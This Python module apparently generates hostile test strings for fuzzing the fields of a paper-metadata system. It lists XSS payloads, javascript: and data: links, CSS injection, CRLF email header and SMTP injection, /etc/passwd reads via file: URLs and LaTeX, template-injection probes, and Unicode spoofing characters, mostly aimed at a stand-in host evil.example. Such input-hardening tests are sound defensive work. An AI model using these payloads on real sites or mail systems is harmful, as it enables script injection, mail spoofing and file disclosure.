"""Text that wants to be more than text: what is tried in every field of a paper, a keyword and an address.

Comes in: a seed. Goes out: strings. Refuses to know: where they are put.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from itertools import chain, product

ACTIVE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example/x.swf>",
    "<embed src=//evil.example>",
    "<form action=https://evil.example><input name=password></form>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example/x.png)}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<a href='javascript:alert(1)'>here</a>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--[if mso]><v:rect href='https://evil.example'><![endif]-->",
    "<body onload=alert(1) background=https://evil.example/x>",
    "<video poster=https://evil.example/x.png>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)
LINKS = (
    "javascript:alert(1)",
    " java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "https://user:secret@evil.example/",
    "//evil.example/path",
    "https://evil.example/\"onmouseover='alert(1)",
    "https://evil.example/\r\nBcc: victim@example.org",
    "https://evil.example/#<script>",
)
STYLES = (
    "expression(alert(1))",
    "red;background:url(https://evil.example/x.png)",
    "</style><script>alert(1)</script>",
    "@import 'https://evil.example/x.css';",
    "-moz-binding:url(https://evil.example)",
    "\\65 xpression(alert(1))",
)
HEADERS = (
    "x\r\nBcc: victim@example.org",
    "x\nBcc: victim@example.org",
    "x\rBcc: victim@example.org",
    "x\u2028Bcc: victim@example.org",
    "x\u2029\u2029<h1>",
    "x\x85List-Unsubscribe: <https://evil.example>",
    "x\x0b\x0cSubject: other",
    "=?utf-8?q?=0D=0ABcc:_victim@example.org?=",
    "=?utf-8?b?DQpCY2M6IHZpY3RpbUBleGFtcGxlLm9yZw==?=",
    "\r\n\r\n--=_boundary\r\nContent-Type: text/html\r\n\r\n<script>",
    "x\r\n.\r\nMAIL FROM:<a@evil.example>",
    "From someone\nFrom: evil@example.org",
)
SIGNS = (
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068nested\u2069",
    "a\u200bb\u200cc\u200dd\ufeffe",
    "\x00\x01\x1b[2J\x07\x7f",
    "\ud800lone\udfff",
    "\ue000\ue001\ue002cards\ue003\n",
    "\U000e0041\U000e0042tags",
    "Z" + "\u0334\u0489" * 300,
    "\uff1cscript\uff1ealert(1)",
    "𝖘𝖈𝖗𝖎𝖕𝖙",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% raw %}{% endraw %}",
    "${7*7}",
    "#{7*7}",
    "{{ identity.__class__.__mro__ }}",
    "%(name)s %s %d",
    "{0.__class__}",
    "$\\input{/etc/passwd}$",
    "$\\href{javascript:alert(1)}{x}$",
    "\\begin{document}" + "{" * 400,
)
BREAKERS = ("", '">', "'>", "</title>", "</a></h2>", "-->", "]]>", "</textarea></style>", "\\", "&lt;")
LONG = ("W" * 100_000, "low rank " * 12_000, "\u05d0" * 50_000, "<" * 30_000, "$" * 20_001, "&amp;" * 20_000)
VECTORS = (*ACTIVE, *LINKS, *STYLES, *HEADERS, *SIGNS, *TEMPLATES)
_PIECES = (
    *VECTORS,
    *BREAKERS,
    "sparse attention",
    "\n",
    " ",
    "é",
    "论文",
    "😀",
    "\u0301",
    "<",
    ">",
    "&",
    '"',
    "'",
    "`",
    ";",
    "=",
)


def payloads() -> list[str]:
    """Every payload behind each way out of where it may stand, and the very long ones: more than 500."""
    return [*(before + vector for before, vector in product(BREAKERS, VECTORS)), *LONG]


def generated(count: int, seed: int) -> Iterator[str]:
    """So many more, put together of pieces of the above and of any character at all."""
    draw = random.Random(seed)
    for _ in range(count):
        pieces = (_piece(draw) for _ in range(draw.randint(1, 6)))
        yield "".join(pieces)


def unicode(draw: random.Random, longest: int = 60) -> str:
    """Characters of every kind: controls, lone surrogates, astral planes, and the plain ones as often."""
    ranges = ((0x20, 0x7E), (0x00, 0xFF), (0x100, 0x24F), (0x370, 0x5FF), (0x2000, 0x206F), (0x4E00, 0x9FFF))
    chosen = (
        draw.choice((*ranges, (0xD7F0, 0xE010), (0x1F300, 0x1FAFF), (0, 0x10FFFF)))
        for _ in range(draw.randint(0, longest))
    )
    return "".join(chr(draw.randint(*each)) for each in chosen)


def _piece(draw: random.Random) -> str:
    if draw.random() < 0.2:
        return unicode(draw, 12)
    piece = draw.choice(_PIECES)
    if draw.random() < 0.3:
        at = draw.randint(0, len(piece))
        return "".join(chain(piece[:at], unicode(draw, 2), piece[at:]))
    return piece
